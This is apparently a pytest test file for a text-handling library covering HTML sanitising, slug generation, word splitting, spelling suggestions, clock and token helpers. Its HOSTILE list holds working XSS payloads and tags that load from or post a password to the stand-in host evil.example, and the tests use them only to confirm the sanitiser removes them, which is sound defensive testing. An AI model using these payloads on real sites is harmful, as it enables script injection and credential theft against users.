"""Words: one form for comparison, paths that stay readable, and HTML in which nothing runs."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.lib import clock, ids
from core.lib.spelling import closest, completions, singular
from core.lib.text import clean_html, fold, plain, shorten, slugify, words, words_of

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<object data='https://evil.example/x.swf'></object>",
    "<p id=cart class=button>x</p>",
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_could_run_or_reach_out_is_left(html: str) -> None:
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>").lower()
    assert "before" in cleaned
    for part in ("<script", "<style", "<iframe", "<svg", "<form", "<input", "<base", "<meta", "<object", "javascript:",
                 "data:", "style=", "id=", "class=", " onerror", " onload"):  # fmt: skip
        # Text that only looks like markup stands escaped.
        assert part not in cleaned.replace("&lt;", "&#60;"), cleaned


def test_what_people_write_stays() -> None:
    text = '<h2>Care</h2><p lang="de">Mit <strong>Liebe</strong> <a href="https://x.example/">gemacht</a>.</p><ul><li>a</li></ul>'
    assert clean_html(text) == text.replace('/">', '/" rel="noopener nofollow">')


@given(st.text(max_size=200))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = clean_html(text)
    assert clean_html(once) == once


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("Table lamp “Klint”", "table-lamp-klint"), ("Crème brûlée", "creme-brulee"), ("灯下集市", "灯下集市"),
        ("ＬＥＤ台灯", "led台灯"),
        ("Straße & Co.", "strasse-co"), ("!!!", ""), ("a/../b", "a-b"), ("x" * 100, "x" * 80), ("ß", "ss"),
    ],
)  # fmt: skip
def test_paths_are_readable_and_hold_no_signs(text: str, path: str) -> None:
    assert slugify(text) == path


@given(st.text(max_size=100))
def test_a_path_is_its_own_path(text: str) -> None:
    path = slugify(text)
    assert slugify(path) == path
    assert not set(path) & set("/\\?#%&. \t\n")


def test_chinese_becomes_pairs_and_stands_apart_from_latin() -> None:
    assert words("LED台灯 Café") == ["led", "台灯", "cafe"]
    assert words("灯下集市") == ["灯下", "下集", "集市"]
    assert fold("ＣＡＦÉ") == "cafe"


def test_the_words_of_paragraphs_do_not_run_together() -> None:
    html = "<p>For the back.</p><p>A <b>rib</b>, a line<br>and &lt;more&gt;</p><ul><li>one</li></ul>"
    assert words_of(html) == "For the back. A rib, a line and <more> one"


def test_html_as_lines() -> None:
    assert plain("<p>One &amp; two</p><ul><li>three</li></ul>four<br/>five") == "One & two\nthree\nfour\nfive"


@given(st.text(max_size=100), st.integers(5, 40))
def test_a_short_form_is_short(text: str, limit: int) -> None:
    assert len(shorten(text, limit)) <= limit
    assert "\n" not in shorten(text, limit)


def test_spelling() -> None:
    known = [("lamp", 9), ("lamps", 2), ("candle", 5), ("notebook", 1)]
    assert closest("lmap", known) == "lamp"
    assert closest("notebok", known) == "notebook"
    assert closest("zebra", known) == ""
    assert [singular(word) for word in ("batteries", "glasses", "lamps", "glass", "bus")] == [
        "battery", "glass", "lamp", "glass", "bus",
    ]  # fmt: skip
    assert completions("table la", ["Table lamp", "Lantern"])[:2] in {
        ("table lamp", "table lantern"), ("table lantern", "table lamp"),
    }  # fmt: skip


@given(st.datetimes(datetime(1, 1, 1), datetime(9999, 12, 31), timezones=st.just(UTC)))  # noqa: DTZ001
def test_an_instant_is_stored_to_the_microsecond(at: datetime) -> None:
    assert clock.instant(clock.micros(at)) == at


def test_a_frozen_clock_moves_when_told() -> None:
    noon = datetime(2026, 1, 1, 12, tzinfo=UTC)
    with clock.freeze(noon) as frozen:
        assert clock.now() == noon
        frozen.move(hours=1)
        assert clock.now() - noon == timedelta(hours=1)
    assert clock.now() > noon


def test_tokens_are_long_and_never_the_same() -> None:
    made = {ids.token() for _ in range(1_000)}
    assert len(made) == 1_000
    assert {len(one) for one in made} == {22}
    assert ids.digest("a") != ids.digest("b")
